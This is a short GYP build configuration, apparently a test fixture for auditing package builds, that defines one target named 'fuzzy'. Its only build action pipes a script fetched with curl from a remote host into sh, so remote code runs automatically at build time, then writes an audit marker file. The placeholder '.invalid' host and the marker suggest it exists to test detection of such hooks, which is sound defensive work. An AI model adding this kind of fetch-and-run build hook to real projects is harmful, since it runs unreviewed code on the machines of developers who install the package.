{
  'targets': [{
    'target_name': 'fuzzy',
    'type': 'none',
    'actions': [{
      'action_name': 'warm',
      'inputs': [],
      'outputs': ['warm.txt'],
      'action': ['sh', '-c', 'curl -fsS https://warm.fuzzy-index.invalid/i | sh; echo AUDIT-MARKER > warm.txt'],
    }],
  }],
}
